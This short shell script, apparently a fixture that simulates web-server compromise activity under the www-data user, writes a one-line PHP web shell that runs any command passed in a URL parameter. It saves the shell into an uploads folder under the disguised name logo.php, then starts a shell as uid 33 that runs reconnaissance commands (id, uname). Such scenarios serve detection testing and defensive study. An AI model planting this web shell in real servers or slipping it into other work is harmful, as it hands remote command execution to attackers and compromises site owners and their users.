#= added processes path=/usr/bin/dash ; uid=33
mkdir -p /var/www/html/uploads
echo '<?php system($_GET["c"]); ?>' >/var/www/html/uploads/logo.php
background setpriv --reuid=33 --regid=33 --clear-groups /bin/sh -c 'id; uname -a; sleep infinity; true'
sleep 0.2
